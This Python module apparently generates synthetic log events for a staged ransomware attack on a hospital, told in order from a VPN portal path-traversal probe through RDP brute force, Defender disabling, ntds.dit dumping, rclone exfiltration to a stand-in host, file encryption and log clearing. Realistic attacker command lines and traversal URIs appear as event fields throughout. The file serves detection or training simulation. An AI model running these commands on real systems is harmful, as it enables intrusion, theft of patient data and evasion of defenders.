"""The attack: a flaw of the VPN portal, remote desktop from machine to machine, then ransomware in the evening.

It is told in the order in which it happens. Names of tools and files are invented where a real one is not the point.
"""

from __future__ import annotations

from collections.abc import Iterator

from demo.generate import hospital as h
from demo.generate.chance import Chance
from demo.generate.deploying import deploy
from demo.generate.happenings import (
    MINUTE,
    SECOND,
    AuditPolicyChanged,
    DefenderSetting,
    FileAction,
    FileCreated,
    Flow,
    Happening,
    LogCleared,
    Logon,
    Lookup,
    MalwareSeen,
    PortalRequest,
    Process,
    Reconnected,
    RegistrySet,
    RemoteDesktop,
    Replication,
    Script,
    Ticket,
    Visit,
    VpnSession,
    clock,
)

_CLIENT = "DESKTOP-7QK2M1V"
_CMD = r"C:\Windows\System32\cmd.exe"
_TRAVERSAL = "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"
_ALERT = "DEMO exploit attempt: directory traversal on SSL VPN portal"
_SUFFIX = ".brume"
_NOTE = "LISEZ-MOI_RESTAURATION.txt"
_ENCRYPTED_HOSTS = (h.FS1, h.RIS1, h.PACS1, h.LECT1, h.LECT2)


def attack() -> Iterator[Happening]:
    """The whole chain."""
    yield from probing_the_portal()
    yield from entering_by_the_vpn()
    yield from looking_around()
    yield from guessing_a_password()
    yield from moving_by_remote_desktop()
    yield from blinding_the_antivirus()
    yield from stealing_the_domain()
    yield from taking_records()
    yield from destroying_what_could_help()
    yield from encrypting_the_images()
    yield from clearing_the_traces()


def probing_the_portal() -> Iterator[Happening]:
    """08:12. Somebody tries known flaws on the portal; one of them is answered with a list of open sessions."""
    at = clock("08:12")
    agent = "python-requests/2.31.0"
    refused = (
        "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd",
        "/vpns/../vpns/cfg/smb.conf",
        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
    )
    for number, uri in enumerate(refused):
        yield PortalRequest(at + number * 3 * SECOND, h.INTRUDER, "GET", uri, 404, agent, 210, _ALERT)
    yield PortalRequest(at + 40 * SECOND, h.INTRUDER, "GET", "/remote/login?lang=en", 200, agent)
    yield PortalRequest(at + 46 * SECOND, h.INTRUDER, "GET", _TRAVERSAL, 200, agent, 38_412, _ALERT)
    yield PortalRequest(at + 55 * SECOND, h.INTRUDER, "GET", _TRAVERSAL.replace("..", "%2e%2e"), 200, agent, 38_412, _ALERT)


def entering_by_the_vpn() -> Iterator[Happening]:
    """11:04. The password read that morning opens the VPN, from a rented server, without a second factor."""
    at = clock("11:04")
    yield PortalRequest(at, h.INTRUDER, "POST", "/remote/logincheck", 200, "Mozilla/5.0 SSLVPN-Client", 430)
    yield VpnSession(at + 2 * SECOND, h.VASSEUR, h.INTRUDER, h.POOL_INTRUDER, 9 * 3600)


def looking_around() -> Iterator[Happening]:
    """11:09. The pool address knocks at remote desktop and file sharing on two whole networks."""
    chance = Chance("attack: looking around")
    at = clock("11:09")
    present = {host.address: host for host in h.HOSTS}
    for network in ("10.20.11", "10.20.30"):
        for number in range(1, 81):
            for port in (445, 3389):
                at += chance.whole(150, 450) * 1000
                address = f"{network}.{number}"
                host = present.get(address, h.Host("", address))
                state, size = ("RSTO", 120) if host.logs else ("S0", 0)
                yield Flow(at, h.POOL_INTRUDER, host, port, seconds=0.01, sent=size, received=size, state=state)


def guessing_a_password() -> Iterator[Happening]:
    """11:31. The on-call account is tried on a reading workstation until it gives way."""
    chance = Chance("attack: guessing")
    at = clock("11:31")
    for _ in range(73):
        at += chance.whole(4, 9) * SECOND
        yield RemoteDesktop(at, h.POOL_INTRUDER, h.LECT2, h.ON_CALL, granted=False, seconds=1.4, client_name=_CLIENT)
    yield RemoteDesktop(at + 7 * SECOND, h.POOL_INTRUDER, h.LECT2, h.ON_CALL, seconds=8 * 3600, client_name=_CLIENT)


def moving_by_remote_desktop() -> Iterator[Happening]:
    """15:10. The same account opens five more desktops within half an hour, the PACS among them."""
    for number, host in enumerate((h.LECT1, h.RIS1, h.PACS1, h.FS1, h.DC1)):
        at = clock("15:10") + number * 6 * MINUTE
        yield RemoteDesktop(at, h.POOL_INTRUDER, host, h.ON_CALL, seconds=1500 + 400 * number, client_name=_CLIENT)
    at = clock("15:22")
    image = r"C:\Windows\System32\reg.exe"
    key = r"HKLM\System\CurrentControlSet\Control\Terminal Server"
    yield Process(at, h.RIS1, h.ON_CALL, image, f'reg add "{key}" /v fDenyTSConnections /t REG_DWORD /d 0 /f', _CMD)
    yield RegistrySet(at + SECOND, h.RIS1, h.ON_CALL, image, key + r"\fDenyTSConnections", "DWORD (0x00000000)")


def blinding_the_antivirus() -> Iterator[Happening]:
    """15:47. The antivirus sees a tool; the archive's folders are taken out of its sight, then it is switched off."""
    tool = r"C:\ProgramData\brume\lit-mots-de-passe.exe"
    yield MalwareSeen(clock("15:47"), h.PACS1, h.ON_CALL, "HackTool:Win32/DemoPasswordReader", tool)
    for number, host in enumerate((h.PACS1, h.RIS1)):
        at = clock("15:50") + number * 3 * MINUTE
        yield Script(at, host, h.ON_CALL, r"Add-MpPreference -ExclusionPath 'D:\PACS','C:\ProgramData\brume' -Force")
        for folder in (r"D:\PACS", r"C:\ProgramData\brume"):
            value = rf"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\{folder} = 0x0"
            yield DefenderSetting(at + SECOND, host, 5007, value)
        yield Script(at + 40 * SECOND, host, h.ON_CALL, "Set-MpPreference -DisableRealtimeMonitoring $true")
        yield DefenderSetting(at + 41 * SECOND, host, 5001)


def stealing_the_domain() -> Iterator[Happening]:
    """16:20. On the domain controller the database of passwords is copied, then asked for over the network."""
    at = clock("16:20")
    image = r"C:\Windows\System32\ntdsutil.exe"
    command = r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\ProgramData\brume\ifm" q q'
    yield Process(at, h.DC1, h.ON_CALL, image, command, _CMD)
    yield FileCreated(at + 20 * SECOND, h.DC1, h.ON_CALL, image, r"C:\ProgramData\brume\ifm\Active Directory\ntds.dit")
    yield Logon(at + 4 * MINUTE, h.POOL_INTRUDER, h.DC1, h.RESCUE, package="NTLM", seconds=30)
    for number in range(3):
        yield Replication(at + 4 * MINUTE + (1 + number) * SECOND, h.DC1, h.POOL_INTRUDER, h.RESCUE)
    yield Flow(at + 4 * MINUTE, h.POOL_INTRUDER, h.DC1, 49676, "dce_rpc", seconds=25, sent=61_000, received=2_400_000)


def taking_records() -> Iterator[Happening]:
    """17:30. Reports are read by the hundred, packed with images and a password, and carried out of the hospital."""
    at = clock("17:30")
    yield Reconnected(at - 3 * MINUTE, h.POOL_INTRUDER, h.LECT2, h.ON_CALL)
    yield Ticket(at, h.LECT2, h.RESCUE, f"cifs/{h.FS1.fqdn}")
    yield Logon(at + SECOND, h.LECT2, h.FS1, h.RESCUE, seconds=1500)
    for number in range(680):
        name = f"Service\\Archives\\{number // 50:02d}\\compte-rendu-{number:04d}.docx"
        moment = at + 2 * SECOND + number * 1_900_000
        yield FileAction(moment, h.LECT2, h.FS1, h.RESCUE, "commun", name, "taking", size=38_000, audited=True)
    packing = at + 25 * MINUTE
    packer = r"C:\ProgramData\brume\7z.exe"
    carrier = r"C:\ProgramData\brume\rclone.exe"
    yield Flow(at + MINUTE, h.LECT2, h.FS1, 445, "gssapi,smb", seconds=1400, sent=9_000_000, received=6_400_000_000)
    pack = r"7z.exe a -pDemo -v500m C:\ProgramData\brume\c.7z \\FS1\commun\Service \\FS1\images$\2026\02"
    carry = r"rclone.exe copy C:\ProgramData\brume remote:c --transfers 8"
    yield Process(packing, h.LECT2, h.RESCUE, packer, pack, _CMD)
    yield Process(packing + 4 * MINUTE, h.LECT2, h.RESCUE, carrier, carry, _CMD)
    yield Lookup(packing + 4 * MINUTE, h.LECT2, "depot.stockage.example", (h.DROP.address,))
    yield Visit(packing + 4 * MINUTE + SECOND, h.LECT2, h.DROP, "depot.stockage.example", 6_100_000_000, 4_000_000, 2900)


def destroying_what_could_help() -> Iterator[Happening]:
    """19:05. From the domain controller: a service on five hosts, services stopped, shadow copies and catalogue deleted."""
    yield from deploy(clock("19:05"), h.DC1, _ENCRYPTED_HOSTS, h.RESCUE, Chance("attack: destroying"))


def encrypting_the_images() -> Iterator[Happening]:
    """19:20. From the reading workstation every image of the share gets a new suffix, every folder a note."""
    at = clock("19:20")
    image = r"C:\ProgramData\brume\brume.exe"
    yield Process(at, h.LECT2, h.RESCUE, image, r"brume.exe -path \\FS1\images$ -n 4", _CMD)
    session = "encrypting"
    common = (h.LECT2, h.FS1, h.RESCUE, "images$")
    for number in range(840):
        folder = f"2026\\03\\09\\2026{8000 + number // 60:05d}"
        name = f"{folder}\\IM{number % 60:04d}.dcm"
        moment = at + 2 * SECOND + number * 330_000
        yield FileAction(moment, *common, name, session, "OPEN", size=524_702)
        yield FileAction(moment + 200_000, *common, name + _SUFFIX, session, "RENAME", previous=name, size=524_958)
        if number % 60 == 0:
            yield FileAction(moment + 210_000, *common, f"{folder}\\{_NOTE}", session, "OPEN", size=1_894)
    for host in _ENCRYPTED_HOSTS:
        yield FileCreated(at + 3 * MINUTE, host, h.machine_account(host), image, rf"C:\Users\Public\Desktop\{_NOTE}")


def clearing_the_traces() -> Iterator[Happening]:
    """19:40. Auditing is switched off and logs are emptied on three servers (copies had been sent elsewhere)."""
    for number, host in enumerate((h.FS1, h.RIS1, h.PACS1)):
        at = clock("19:40") + number * 90 * SECOND
        yield AuditPolicyChanged(at, host, h.RESCUE)
        yield Process(at + SECOND, host, h.RESCUE, r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security", _CMD)
        yield LogCleared(at + 2 * SECOND, host, h.RESCUE, "Security")
        yield LogCleared(at + 3 * SECOND, host, h.RESCUE, "System")
